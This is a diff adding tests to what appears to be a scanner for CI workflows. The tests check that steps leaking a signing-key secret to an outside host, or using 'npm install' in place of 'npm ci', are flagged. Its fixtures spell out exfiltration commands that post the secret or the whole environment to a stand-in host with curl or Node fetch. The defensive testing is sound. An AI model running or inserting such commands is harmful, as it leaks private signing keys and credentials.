@@ -257,3 +257,38 @@ describe("texts and files of strangers that others hand on:", () => {
     });
   });
 });
+
+describe("secrets that a step could hand over, and lockfiles that it no longer holds:", () => {
+  const REACHES = "build/step-reaches high";
+  const KEY = `        env:\n          KEY: \${{ secrets.TAURI_SIGNING_PRIVATE_KEY }}\n`;
+  const sent = (line: string) => withSteps(`${run(line)}${KEY}`);
+  test.each<[string, Record<string, string>, string]>([
+    ["a variable", sent('curl -d "$KEY" https://a.example'), REACHES],
+    ["a variable over two lines", sent('curl https://a.example \\\n  -d "$KEY"'), REACHES],
+    ["code of Node", sent("node -e \"fetch('https://a.example/' + process.env.KEY)\""), REACHES],
+    ["all variables", sent("printenv | curl -d @- https://a.example"), REACHES],
+    ["the secret itself", withSteps(run(`curl -d '\${{ secrets.KEY }}' https://a.example`)), REACHES],
+    ["npm beyond the lockfile", release(WORKFLOW.replace("npm ci", "npm install")), TOOL],
+  ])("%s", async (_, changes, expected) => {
+    const { told, verdict } = await toldOf(changes);
+    expect(told).toContain(expected);
+    expect(verdict).toBe("fail");
+  });
+
+  test.each<[string, Record<string, string>]>([
+    ["the network without a secret", withSteps(run("curl -fsS https://a.example/health"))],
+    ["a secret without the network", sent('test -n "$KEY"')],
+    ["a comment", sent('# curl -d "$KEY"\ntest -n "$KEY"')],
+    ["a second step that holds the lockfile", withSteps(run("npm ci"))],
+  ])("calm: %s", async (_, changes) => {
+    expect(await toldOf(changes)).toEqual({ verdict: "pass", told: [] });
+  });
+
+  test("calm: npm beyond a lockfile that was never held", async () => {
+    const install = WORKFLOW.replace("npm ci", "npm install");
+    expect(await toldOf(release(`${install}# More.\n`), release(install))).toEqual({
+      verdict: "pass",
+      told: [],
+    });
+  });
+});
